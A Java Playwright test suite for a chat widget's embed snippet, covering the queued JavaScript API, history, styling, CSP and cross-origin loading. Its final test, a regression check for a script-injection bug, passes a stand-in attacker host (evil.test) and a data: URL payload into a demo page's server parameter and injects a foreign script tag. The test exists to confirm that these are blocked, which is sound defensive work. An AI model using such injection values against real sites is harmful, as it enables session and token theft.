package app.parley.ui.chatbox;

import static app.parley.ui.chatbox.ChatBox.expect;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The Smartsupp-shaped snippet on a shop page: loading, the queued JS API, sending, and isolation from the page. */
class ChatBoxSnippetTest extends ChatBoxTestBase {
    @Test
    void callsQueuedBeforeLoadRunInOrderAndTheVisitorsMessageIsStoredOnce() {
        // customer=1 queues name, email, variables; ask=1 queues chat:message then chat:open (demo/shop.html).
        ChatBox box = ChatBox.open(context, app, "&customer=1&ask=1");
        ChatBox.expect(box.panel()).isVisible();
        ChatBox.expect(box.composer()).hasValue("Hi! Is the Mountain Sencha in stock?");
        assertThat(box.page.evaluate("() => window.smartsupp === window.parley && typeof smartsupp === 'function'")).isEqualTo(true);
        box.screenshot("snippet-prefilled");

        box.sendButton().click();
        box.awaitAllAcked();
        expect(box.mine()).hasText(new String[] {"Hi! Is the Mountain Sencha in stock?"});
        expect(box.composer()).hasValue("");

        JsonNode conversation = ChatBox.onlyConversation(owner);
        long id = conversation.path("id").asLong();
        assertThat(ChatBox.texts(owner, id, "contact")).containsExactly("Hi! Is the Mountain Sencha in stock?");
        assertThat(conversation.path("visitor").path("name").asText()).isEqualTo("Jane Doe");
        assertThat(conversation.path("visitor").path("email").asText()).isEqualTo("jane@example.com");
        JsonNode vars = conversation.path("variables");
        assertThat(vars.toString()).contains("orders").contains("vip").contains("42.50 EUR");

        // on('message_sent') registered before load fired once, with the stored message.
        List<Map<String, Object>> events = box.dataLayer();
        assertThat(events).filteredOn(e -> "chat_message_sent".equals(e.get("event")))
                .extracting(e -> e.get("text")).containsExactly("Hi! Is the Mountain Sencha in stock?");

        ChatBox.reply(owner, id, "Yes, 40 packs in stock.");
        expect(box.theirs()).hasText(new String[] {"Yes, 40 packs in stock."});
        ChatBox.eventually("message_received fired", 5000, () -> box.dataLayer().stream()
                .anyMatch(e -> "chat_message_received".equals(e.get("event")) && "Yes, 40 packs in stock.".equals(e.get("text"))));
        box.screenshot("snippet-conversation");

        // After load the API runs directly, under both names.
        box.page.evaluate("() => smartsupp('chat:close')");
        expect(box.panel()).isHidden();
        box.page.evaluate("() => parley('chat:open')");
        expect(box.panel()).isVisible();
        box.page.evaluate("() => { smartsupp('chat:message', 'Sent by the page'); smartsupp('chat:send'); }");
        box.awaitAllAcked();
        assertThat(ChatBox.texts(owner, id, "contact")).containsExactly("Hi! Is the Mountain Sencha in stock?", "Sent by the page");
        box.page.evaluate("() => smartsupp('chat:hide')");
        expect(box.launcher()).isHidden();
        box.page.evaluate("() => smartsupp('chat:show')");
        expect(box.launcher()).isVisible();
    }

    @Test
    void historySurvivesReloadAndAnotherTab() {
        ChatBox box = ChatBox.open(context, app, "");
        box.launcher().click();
        box.send("First question");
        box.awaitAllAcked();
        long id = ChatBox.onlyConversation(owner).path("id").asLong();
        ChatBox.reply(owner, id, "First answer");
        expect(box.theirs()).hasText(new String[] {"First answer"});

        box.page.reload();
        expect(box.panel()).isVisible(); // it was open: it stays open on the next page
        expect(box.mine()).hasText(new String[] {"First question"});
        expect(box.theirs()).hasText(new String[] {"First answer"});

        ChatBox tab = ChatBox.open(context, app, "");
        tab.launcher().click();
        expect(tab.mine()).hasText(new String[] {"First question"});
        tab.send("From the second tab");
        tab.awaitAllAcked();
        // The first tab sees it too, once.
        expect(box.mine()).hasText(new String[] {"First question", "From the second tab"});
        assertThat(ChatBox.texts(owner, id, "contact")).containsExactly("First question", "From the second tab");
        assertThat(ChatBox.conversations(owner)).hasSize(1);
    }

    @Test
    void aClickWhileTheRememberedPanelIsStillLoadingOpensIt() {
        ChatBox box = ChatBox.open(context, app, "");
        box.launcher().click();
        expect(box.panel()).isVisible();

        // On the next page the box is remembered open, but shows its launcher closed until the panel has loaded.
        // Hold the panel's script so the visitor's click lands in that moment: it must open the box, not close it.
        List<Route> held = new ArrayList<>();
        box.page.route("**/panel.js*", held::add);
        try {
            box.page.reload();
            ChatBox.eventually("the panel's script is requested", 10_000, () -> {
                box.page.waitForTimeout(50);
                return !held.isEmpty();
            });
            expect(box.launcher()).isVisible();
            expect(box.launcher()).hasAttribute("aria-expanded", "false");
            box.launcher().click();
        } finally {
            held.forEach(Route::resume);
            box.page.unrouteAll();
        }
        expect(box.panel()).isVisible();
        expect(box.launcher()).hasAttribute("aria-expanded", "true");
        box.page.reload();
        expect(box.panel()).isVisible(); // and still remembered open
    }

    @Test
    void languageAndLookFollowTheShopsSettings() {
        ChatBox box = ChatBox.open(context, app, "&language=cs&color=%23f4c542&orientation=left&offsetX=40&offsetY=30");
        expect(box.launcher()).hasAttribute("aria-label", "Otevřít chat");
        var launcher = box.launcher().boundingBox();
        assertThat(launcher.x).isEqualTo(40);
        assertThat(launcher.y + launcher.height).isEqualTo(800 - 30);
        // A pale brand colour gets dark text and icons for contrast.
        assertThat(box.launcher().evaluate("e => getComputedStyle(e).backgroundColor + ' ' + getComputedStyle(e).color"))
                .isEqualTo("rgb(244, 197, 66) rgb(29, 36, 51)");
        box.launcher().click();
        expect(box.text("Dobrý den! Jak vám můžeme pomoci?")).isVisible();
        expect(box.composer()).hasAttribute("placeholder", "Napište zprávu…");
        box.screenshot("czech-left-yellow");
        assertThat(context.cookies()).anyMatch(c -> "parley_vid".equals(c.name) && c.value.length() >= 16);
    }

    @Test
    void aCookieDomainTheBrowserRefusesStillKeepsTheVisitor() {
        ChatBox box = ChatBox.open(context, app, "&cookieDomain=.shop.example");
        box.launcher().click();
        box.send("Remember me");
        box.awaitAllAcked();
        assertThat(context.cookies()).filteredOn(c -> "parley_vid".equals(c.name)).extracting(c -> c.domain)
                .containsExactly("127.0.0.1");
        ChatBox next = ChatBox.open(context, app, "&cookieDomain=.shop.example");
        next.launcher().click();
        expect(next.mine()).hasText(new String[] {"Remember me"});
        assertThat(ChatBox.conversations(owner)).hasSize(1);
    }

    @Test
    void worksUnderAStrictContentSecurityPolicy() {
        // demo/csp.html allows scripts, styles and connections from its own origin only, and no inline styles.
        Page page = context.newPage();
        page.addInitScript("window.__violations = []; document.addEventListener('securitypolicyviolation',"
                + " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI + ' at ' + e.sourceFile + ':' + e.lineNumber));");
        page.navigate(app.baseUrl() + "/demo/csp.html?key=" + app.accountKey());
        ChatBox box = ChatBox.on(page);
        expect(box.launcher()).isVisible();
        box.launcher().click();
        box.send("Hello under CSP");
        box.awaitAllAcked();
        assertThat(page.evaluate("() => getComputedStyle(document.querySelector('parley-chat')).position")).isEqualTo("fixed");
        assertThat(page.evaluate("() => window.__violations")).asList().isEmpty();
    }

    @Test
    void hostilePageStylesDoNotReachTheChatBox() {
        String probe = """
                () => {
                  const root = document.querySelector('parley-chat').shadowRoot;
                  const read = (sel) => {
                    // offsetWidth/Height: layout size, not the hover zoom or the opening animation
                    const el = root.querySelector(sel), s = getComputedStyle(el);
                    return [s.fontSize, s.fontFamily, s.color, s.backgroundColor, s.boxSizing, s.lineHeight,
                            s.textTransform, s.letterSpacing, s.borderTopStyle, el.offsetWidth, el.offsetHeight].join(' | ');
                  };
                  const host = getComputedStyle(document.querySelector('parley-chat'));
                  return { launcher: read('.launcher'), panel: read('.panel'), title: read('.title'),
                           greeting: read('.greet p'), input: read('.input'), bubble: read('.row.me .bub'),
                           host: [host.transform, host.opacity, host.position, host.zIndex].join(' | ') };
                }""";
        ChatBox shop = ChatBox.open(context, app, "");
        shop.launcher().click();
        shop.send("Isolation check");
        shop.awaitAllAcked();
        @SuppressWarnings("unchecked")
        Map<String, Object> clean = (Map<String, Object>) shop.page.evaluate(probe);

        ChatBox hostile = ChatBox.open(context, app, "hostile.html", "");
        hostile.launcher().click(); // same visitor (cookie), so the same conversation
        expect(hostile.mine()).hasText(new String[] {"Isolation check"});
        @SuppressWarnings("unchecked")
        Map<String, Object> attacked = (Map<String, Object>) hostile.page.evaluate(probe);
        hostile.screenshot("hostile-page");

        assertThat(attacked).isEqualTo(clean);
        assertThat((String) attacked.get("greeting")).startsWith("15px").doesNotContain("rgb(255, 0, 0)");
        assertThat((String) attacked.get("host")).isEqualTo("none | 1 | fixed | 2147483000");
        // The page's own elements did get the hostile rules (the test page is really hostile).
        assertThat(hostile.page.evaluate("() => getComputedStyle(document.querySelector('h2')).color")).isEqualTo("rgb(255, 0, 0)");
    }

    @Test
    void worksWhenTheShopIsOnAnotherOrigin() {
        // The page comes from another server (another port), as on a real shop, so the
        // module imports, the stylesheet and /widget/config must pass CORS.
        Page page = context.newPage();
        List<String> failures = new ArrayList<>();
        page.onRequestFailed(r -> failures.add(r.url() + " " + r.failure()));
        page.onConsoleMessage(m -> { if ("error".equals(m.type())) failures.add(m.text()); });
        // The shop is a web server of its own (another port: another origin) whose page has the snippet naming Parley.
        String html = """
                <!doctype html><html><head><title>Another shop</title><script>
                var _smartsupp = _smartsupp || {}; _smartsupp.key = '%s';
                window.smartsupp||(function(d) { var s,c,o=smartsupp=function(){ o._.push(arguments)};o._=[];
                  s=d.getElementsByTagName('script')[0];c=d.createElement('script');c.async=true;
                  c.src='%s/chat.js';s.parentNode.insertBefore(c,s); })(document);
                </script></head><body><h1>Another shop</h1></body></html>""".formatted(app.accountKey(), app.baseUrl());
        HttpServer shop;
        try {
            shop = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        shop.createContext("/", exchange -> {
            byte[] body = html.getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        shop.start();
        try {
            page.navigate("http://127.0.0.1:" + shop.getAddress().getPort() + "/shop.html");
            chatAcrossOrigins(page, failures);
        } finally {
            shop.stop(0);
        }
    }

    private void chatAcrossOrigins(Page page, List<String> failures) {
        ChatBox box = ChatBox.on(page);
        expect(box.launcher()).isVisible();
        box.launcher().click();
        expect(box.text("Test Shop")).isVisible();
        box.send("Hello across origins");
        box.awaitAllAcked();
        assertThat(ChatBox.texts(owner, ChatBox.onlyConversation(owner).path("id").asLong(), "contact"))
                .containsExactly("Hello across origins");
        assertThat(failures).filteredOn(f -> f.contains("CORS") || f.contains("/widget/") || f.contains("chat.js")).isEmpty();
    }

    @Test
    void noAddressCanMakeADemoPageRunScriptFromElsewhere() {
        // Issue #9, point 1: /demo/shop.html?server=<any URL> loaded <server>/chat.js on Parley's own origin, where a
        // signed-in owner's session could mint an API token and send it away.
        Page page = context.newPage();
        List<String> foreign = new ArrayList<>();
        page.route("http://evil.test/**", route -> {
            foreign.add(route.request().url());
            route.fulfill(new Route.FulfillOptions().setContentType("text/javascript").setBody("window.__pwned = true;"));
        });
        page.addInitScript("window.__violations = []; document.addEventListener('securitypolicyviolation',"
                + " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));");
        for (String server : List.of("http://evil.test", "data:text/javascript,window.__pwned=true//")) {
            for (String demo : List.of("shop.html", "hostile.html", "csp.html")) {
                page.navigate(app.baseUrl() + "/demo/" + demo + "?key=" + app.accountKey() + "&server="
                        + URLEncoder.encode(server, StandardCharsets.UTF_8));
                expect(ChatBox.on(page).launcher()).isVisible(); // Parley's own chat box, from Parley
                assertThat(page.evaluate("() => window.__pwned === true")).as(demo + " " + server).isEqualTo(false);
            }
        }
        // Even script that got into the page some other way cannot fetch code from elsewhere.
        page.evaluate("() => { const s = document.createElement('script'); s.src = 'http://evil.test/x.js';"
                + " document.head.appendChild(s); }");
        ChatBox.eventually("the policy refused the foreign script", 5000, () -> ((List<?>) page.evaluate(
                "() => window.__violations")).stream().anyMatch(v -> String.valueOf(v).contains("evil.test")));
        assertThat(foreign).isEmpty();
        assertThat(page.evaluate("() => window.__pwned === true")).isEqualTo(false);

        // The shop's buttons still work without inline handlers.
        page.navigate(app.baseUrl() + "/demo/shop.html?key=" + app.accountKey());
        ChatBox box = ChatBox.on(page);
        expect(box.launcher()).isVisible();
        page.locator("[data-ask='Assam Breakfast']").click();
        expect(box.panel()).isVisible();
        expect(box.composer()).hasValue("Hi! Is the Assam Breakfast in stock?");
    }
}
